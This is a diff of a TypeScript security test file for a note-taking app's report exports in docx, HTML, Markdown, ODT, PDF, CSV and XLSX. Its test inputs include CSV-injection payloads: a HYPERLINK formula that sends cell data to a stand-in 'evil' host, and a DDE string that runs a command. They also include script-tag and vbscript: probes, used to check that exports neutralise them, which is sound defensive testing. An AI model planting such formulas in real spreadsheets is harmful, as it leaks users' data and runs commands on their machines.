@@ -1,18 +1,21 @@
+import { parse } from "csv-parse/sync";
 import { openRoomLink } from "../../client/sync/roomLink.ts";
 import { api } from "../../shared/api.ts";
 import type { NoteId, QuestionId, RoomId } from "../../shared/ids.ts";
 import { readDocx } from "../support/exports/readDocx.ts";
 import { readHtml } from "../support/exports/readHtml.ts";
 import { readMarkdown } from "../support/exports/readMarkdown.ts";
+import { readOdt } from "../support/exports/readOdt.ts";
+import { readWorkbook } from "../support/exports/readWorkbook.ts";
 import { until } from "../support/until.ts";
 import { comeIn, joinRoom, makeSession } from "../support/visitor.ts";
 import type { Attack, Attacks } from "./attack.ts";
 import { openScene, type Scene } from "./scene.ts";
 
-const readers = { docx: readDocx, html: readHtml, md: readMarkdown };
+const readers = { docx: readDocx, html: readHtml, md: readMarkdown, odt: readOdt };
 
-/** A session in which people write these notes; its report in each format, read back strictly. */
-async function reportsOf(scene: Scene, texts: readonly string[]) {
+/** A session in which people write these notes; its report in each format, read back strictly, and `more` files as they are. */
+async function reportsOf(scene: Scene, texts: readonly string[], more: readonly string[] = []) {
   const here = await openScene(scene.address, 1);
   const room = "r1" as RoomId;
   const guest = await joinRoom(scene.address, here.links, room, "Ann");
@@ -28,25 +31,30 @@ async function reportsOf(scene: Scene, texts: readonly string[]) {
   await until(link.link.savings, ({ edits, saved }) => edits === texts.length && saved === edits);
   const { session } = here.links;
   const { notes } = await here.moderator.call(api.listNotes, { session, as: "moderator" });
-  const files = await Promise.all(
-    Object.entries(readers).map(async ([format, read]) => {
-      const answer = await here.moderator.fetch(`/api/sessions/${session}/report/${format}?as=moderator`);
-      if (!answer.ok) throw new Error(`the ${format} answered ${answer.status}`);
-      return read(new Uint8Array(await answer.arrayBuffer()));
-    }),
-  );
+  const download = async (format: string): Promise<Uint8Array> => {
+    const answer = await here.moderator.fetch(`/api/sessions/${session}/report/${format}?as=moderator`);
+    if (!answer.ok) throw new Error(`the ${format} answered ${answer.status}`);
+    return new Uint8Array(await answer.arrayBuffer());
+  };
+  const files = await Promise.all(Object.entries(readers).map(async ([format, read]) => read(await download(format))));
+  const plain = new Map(await Promise.all(more.map(async (format) => [format, await download(format)] as const)));
   link.close();
   here.close();
-  return { files, notes };
+  return { files, plain, notes };
 }
 
 /** Every format opens, holds `words` literally, and has no link but to the web and to mail. */
-function opens(texts: readonly string[], words: readonly string[] = texts, because?: string): Attack {
+function opens(
+  texts: readonly string[],
+  words: readonly string[] = texts,
+  because?: string,
+  more: readonly string[] = [],
+): Attack {
   return {
     outcome: "opens in each format",
     ...(because !== undefined && { because }),
     async run(scene) {
-      const { files } = await reportsOf(scene, texts);
+      const { files } = await reportsOf(scene, texts, more);
       for (const { pieces, links } of files) {
         const all = pieces.map(({ text }) => text.replace(/\s+/gu, " ")).join("\n");
         for (const word of words)
@@ -80,31 +88,35 @@ export const documents: Attacks = {
     ],
     ["vbscript:x"],
   ),
-  J01: {
-    outcome: "no formula",
-    because: "there are no spreadsheets yet besides the CSV of the links",
-    run: (scene) => csvCells(scene, ["=1+1", "+1", "-1", "@SUM(A1)"]),
-  },
-  J02: {
-    outcome: "no formula",
-    because: "there are no spreadsheets yet besides the CSV of the links",
-    run: (scene) =>
-      csvCells(scene, ['=HYPERLINK("http://evil/?"&A1,"klik")', "=cmd|' /C calc'!A0", "\u200B=1+1", "\t=1", "＝1+1"]),
-  },
+  J01: noFormulas(["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1"]),
+  J02: noFormulas(['=HYPERLINK("http://evil/?"&A1,"klik")', "=cmd|' /C calc'!A0", "＝1+1", ";=1", '"=1', "a\n=1"]),
   J04: opens([`x${controls}y`, "\uFFFE\uFFFF en tekst"], ["en tekst"]),
   J05: opens(["]]> klaar", "<!-- weg -->", "&amp;#x0;", "<w:p/>", "<script>alert(1)</script>"]),
-  J09: opens([], []),
-  J12: opens(["مرحبا", "👩‍👩‍👧 😀", "你好", "ⵜⵉⴼⵉⵏⴰⵖ"], ["مرحبا", "😀", "你好", "ⵜⵉⴼⵉⵏⴰⵖ"]),
+  J09: opens([], [], undefined, ["zip"]),
+  J12: opens(
+    ["مرحبا", "👩‍👩‍👧 😀", "你好", "ⵜⵉⴼⵉⵏⴰⵖ"],
+    ["مرحبا", "😀", "你好", "ⵜⵉⴼⵉⵏⴰⵖ"],
+    "a PDF puts […] for letters that its fonts lack, and says so; all other files have them",
+    ["pdf"],
+  ),
 };
 
-/** Room names come out in the organiser's CSV of links. */
-async function csvCells(scene: Scene, names: readonly string[]): Promise<string> {
-  const links = await makeSession(scene.address, 1, { rooms: names.map((name) => ({ name })) });
-  const organiser = await comeIn(scene.address, links, "organiser");
-  const answer = await organiser.fetch(`/api/sessions/${links.session}/links.csv?as=organiser`);
-  const lines = (await answer.text())
-    .replace(/^\uFEFF/, "")
-    .split("\r\n")
-    .slice(1);
-  return lines.some((line) => /^"?[=+\-@\t\r＝]/.test(line)) ? "a formula" : "no formula";
+/** As names of rooms in the CSV of links, and as notes in both spreadsheets. */
+function noFormulas(texts: readonly string[]): Attack {
+  const begins = /^[=+\-@\t\r＝]/;
+  return {
+    outcome: "no formula",
+    async run(scene) {
+      const links = await makeSession(scene.address, 1, { rooms: texts.map((name, at) => ({ name: `${name}${at}` })) });
+      const organiser = await comeIn(scene.address, links, "organiser");
+      const answer = await organiser.fetch(`/api/sessions/${links.session}/links.csv?as=organiser`);
+      const { plain } = await reportsOf(scene, texts, ["csv", "xlsx"]);
+      const tables = [await answer.text(), new TextDecoder().decode(plain.get("csv"))];
+      const cells = tables.flatMap((table): string[] => parse(table, { bom: true }).flat());
+      if (cells.some((cell) => begins.test(cell))) return "a formula in a CSV";
+      const { formulas, cells: words } = readWorkbook(plain.get("xlsx") ?? new Uint8Array());
+      if (!texts.every((text) => words.some((word) => word.trim() === text.trim()))) return "words are missing";
+      return formulas === 0 ? "no formula" : "a formula";
+    },
+  };
 }
